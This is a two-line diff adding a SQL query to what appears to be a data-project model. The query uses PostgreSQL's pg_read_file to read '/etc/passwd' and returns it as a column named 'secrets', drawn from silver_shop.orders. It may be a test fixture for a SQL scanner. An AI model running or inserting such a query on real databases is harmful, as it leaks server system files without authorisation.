@@ -1,0 +1,2 @@
+select pg_read_file('/etc/passwd') as secrets
+from silver_shop.orders
